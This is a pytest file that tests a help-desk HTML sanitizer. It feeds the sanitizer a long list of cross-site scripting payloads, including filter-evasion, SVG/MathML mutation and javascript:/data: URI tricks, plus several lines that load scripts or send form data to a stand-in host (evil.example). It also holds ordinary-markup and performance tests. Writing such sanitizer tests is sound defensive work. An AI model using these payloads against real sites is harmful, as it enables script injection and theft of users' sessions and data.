"""Hostile and ordinary messages through `clean`; what a browser would do is judged on the parsed result, not on the text."""

from __future__ import annotations

import time
from html.parser import HTMLParser

import pytest

from pult.kit.html import STYLED, TAGS, clean, mentions, text_of

# Stored script through mail and messages, and through files, pictures and their types: the classes that hit help desks.
XSS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/x>alert(1)</script\n>",
    "<<script>alert(1);//<</script>",
    "<script>alert(1)",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror\n=\nalert(1)>",
    "<img/src=x/onerror=alert(1)//",
    '<img """><script>alert(1)</script>">',
    "<img src=`javascript:alert(1)`>",
    "<img src=javascript:alert(1)>",
    '<img src="java&#x0A;script:alert(1)">',
    "<img src='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+'>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<img src='data:text/html,<script>alert(1)</script>'>",
    "<img src='data:image/png,\"><script>alert(1)</script>'>",
    "<img src='  data:image/svg+xml;base64,AAAA'>",
    '<img srcset="x 1x, javascript:alert(1) 2x">',
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='javascript&colon;alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='data:image/png;base64,AAAA'>x</a>",
    "<a href='blob:https://example.com/1'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='//evil.example'>x</a>",
    "<a href='/desk/logout'>x</a>",
    "<a href='https://example.com' target='desk' ping='https://evil.example' onclick='alert(1)'>x</a>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<math href='javascript:alert(1)'>x</math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src='https://evil.example/x.swf'>",
    "<applet code=x></applet>",
    "<form action='https://evil.example'><input name=password><button formaction=javascript:alert(1)>x</button></form>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href='javascript:alert(1)//'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<style>@import 'https://evil.example/x.css'; body{background:url(javascript:alert(1))}</style>",
    "<div style='background-image:url(javascript:alert(1))'>x</div>",
    "<div style='width:expression(alert(1))'>x</div>",
    "<div style='position:fixed;inset:0;z-index:9;color:red'>x</div>",
    "<div style='behavior:url(x.htc);-moz-binding:url(x)'>x</div>",
    "<body onload=alert(1)>",
    "<div onmouseover=alert(1) onfocus=alert(1) tabindex=1 autofocus>x</div>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<table background='javascript:alert(1)'><td background='javascript:alert(1)'>x</table>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "<title></title><img src=x onerror=alert(1)>",
    "<template><img src=x onerror=alert(1)></template>",
    "<xmp></xmp><script>alert(1)</script>",
    "<plaintext><script>alert(1)</script>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><?xml-stylesheet href='javascript:alert(1)'?>",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    "<custom-element onclick=alert(1)>x</custom-element>",
    "</p onclick=alert(1)>",
    "<p\x0conclick=alert(1)>x</p>",
    "<b/onclick=alert(1)>x</b>",
    "<a@b onclick=alert(1)><img src=x onerror=alert(1)>@c>",
    "<https://x/<img src=x onerror=alert(1)>>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "<a title='--><script>alert(1)</script>' href='https://example.com'>x</a>",
    "<div>" * 600 + "<script>alert(1)</script><img src=x onerror=alert(1)>",
]


class Judge(HTMLParser):
    """Collects what must not be in a message that agents look at."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.wrong = []
        self.tags = []

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        if tag not in TAGS:
            self.wrong.append(tag)
        for name, value in attrs:
            self._attribute(tag, name, (value or "").strip().lower())

    def _attribute(self, tag, name, value):
        picture = tag == "img" and value.startswith(
            ("data:image/png;base64,", "data:image/jpeg;base64,", "data:image/gif;base64,", "data:image/webp;base64,")
        )
        safe = value.startswith(("http://", "https://", "mailto:", "tel:"))
        if name.startswith("on") or name in {
            "srcset",
            "ping",
            "background",
            "action",
            "formaction",
            "srcdoc",
            "xlink:href",
        }:
            self.wrong.append(name)
        if name in {"href", "src"} and not safe and not picture:
            self.wrong.append(f"{name}={value}")
        if name == "style" and not {part.split(":")[0].strip() for part in value.split(";") if part.strip()} <= STYLED:
            self.wrong.append(f"style={value}")
        if name == "target" and value != "_blank":
            self.wrong.append(f"target={value}")

    def handle_comment(self, data):
        self.wrong.append(f"comment {data}")

    def handle_decl(self, decl):
        self.wrong.append(f"declaration {decl}")

    def handle_pi(self, data):
        self.wrong.append(f"instruction {data}")

    def unknown_decl(self, data):
        self.wrong.append(f"declaration {data}")


def judged(html: str) -> Judge:
    judge = Judge()
    judge.feed(html)
    judge.close()
    return judge


@pytest.mark.parametrize("vector", XSS)
def test_no_script_survives(vector):
    for message in (
        vector,
        f"<p>Hello</p>{vector}<p>bye</p>",
        f'<b title="{vector}">x</b>',
        f"<table><tr><td>{vector}",
    ):
        cleaned = clean(message)
        assert judged(cleaned).wrong == [], cleaned
        assert judged(clean(cleaned)).wrong == []


def test_the_judge_finds_what_it_should():
    assert all(
        judged(bad).wrong
        for bad in ("<script>", "<b onclick=x>", "<a href='javascript:x'>", "<!-- x -->", "<p style='top:1px'>")
    )


ORDINARY = [
    "<p>Hello, <b>Dana</b><br>second <i>line</i> <u>u</u> <s>s</s></p>",
    '<img src="https://example.com/a.png" alt="A" width="10" height="20">',
    '<img src="data:image/png;base64,iVBORw0KGgo=">',
    '<img src="cid:logo.1$2@client.example">',
    '<table><tbody><tr><td colspan="2" rowspan="3">x</td></tr></tbody></table>',
    '<ul><li>1</li></ul><ol start="3"><li>2</li></ol>',
    "<blockquote>old</blockquote><pre>  code </pre><code>x</code><hr><h1>T</h1><h6>t</h6>",
    '<span style="color:red;background-color:#fff;text-align:center;font-weight:bold">x</span>',
]


@pytest.mark.parametrize("message", ORDINARY)
def test_ordinary_markup_stays(message):
    assert clean(message) == message


@pytest.mark.parametrize(
    "message", ["<a href='cid:x@y'>x</a>", "<img src='cid:x y'>", "<img src='cid:\"onerror=alert(1)'>"]
)
def test_only_pictures_are_files_of_the_message(message):
    assert "cid:" not in clean(message)


def test_links_say_nothing_about_the_desk():
    cleaned = clean('<a href="https://example.com/?a=1&amp;b=2" title="t" target="_blank">x</a>')
    assert cleaned == (
        '<a href="https://example.com/?a=1&amp;b=2" title="t" target="_blank" rel="noopener noreferrer nofollow">x</a>'
    )


@pytest.mark.parametrize(
    ("text", "cleaned"),
    [
        ("plain\r\ntext, два  слова\t😀\xa0", "plain\r\ntext, два  слова\t😀\xa0"),
        ("1 < 2 & 3 > 2", "1 &lt; 2 &amp; 3 &gt; 2"),
        ("x<y and y>z", "x&lt;y and y&gt;z"),
        ("Dana <dana@example.com>", "Dana &lt;dana@example.com&gt;"),
        ("<p>Dana <dana@example.com></p>", "<p>Dana &lt;dana@example.com&gt;</p>"),
        ("see <https://example.com/?a=1&b=2>", "see &lt;https://example.com/?a=1&amp;b=2&gt;"),
        ("Tom &amp; Jerry &lt;3", "Tom &amp; Jerry &lt;3"),
        ("a&copy=1", "a&amp;copy=1"),
        ("", ""),
    ],
)
def test_text_keeps_every_character(text, cleaned):
    assert clean(text) == cleaned
    assert clean(cleaned) == cleaned


@pytest.mark.parametrize(
    ("html", "text"),
    [
        ("<p>One</p><p>Two<br>three</p>", "One\nTwo\nthree"),
        ("<div>a &amp; b &lt;c&gt;</div>", "a & b <c>"),
        ('<a href="https://example.com/hidden" title="a>b">shown</a>', "shown"),
        ("<table><tr><td>1</td><td>2</td></tr><tr><td>3</td></tr></table>", "1\t2\n3"),
        ("<ul><li>x</li><li>y</li></ul>", "x\ny"),
        ("Зая<b>вки</b>", "Заявки"),
        ("no markup", "no markup"),
        ("<p>a</p>\n\n\n\n<p>b</p>", "a\n\nb"),
    ],
)
def test_text_of_what_is_read(html, text):
    assert text_of(html) == text


def test_mentions_in_order_once_and_in_lower_case():
    message = (
        'Ask [~Anna@Desk.example] or [~bob@desk.example], <b>[~anna@desk.example]</b> [~<a href="x">c@d.example</a>]'
    )
    assert mentions(message) == ["anna@desk.example", "bob@desk.example", "c@d.example"]
    assert mentions("anna@desk.example [anna@desk.example] [~anna] [~a b@c.d]") == []


HEAVY = {
    "mail": "<div style='color:red;top:1px'><p class=x>Hello <a href='https://example.com/?y=1&z=2'>мир</a></p></div>"
    * 560,
    "depth": "<div>" * 13000,
    "brackets": "<" * 65536,
    "comments": "<!--" * 16000,
    "quotes": '<a "' * 16000,
    "formatting": "<p>" + "<a><b><i><u><s>" * 4300,
    "misnested": "<b></p>" * 9000,
    "addresses": "<a@a" * 16000,
    "newlines": "\n " * 32000 + "<b>",
}


@pytest.mark.parametrize("name", HEAVY)
def test_sixty_four_kilobytes_take_no_time(name):
    """About 20 ms of computing on an ordinary core; the limit leaves room for a slow one, and none for squares."""
    best = 9.0
    for _ in range(3):
        start = time.thread_time()
        text_of(clean(HEAVY[name]))
        best = min(best, time.thread_time() - start)
    assert best < 0.4
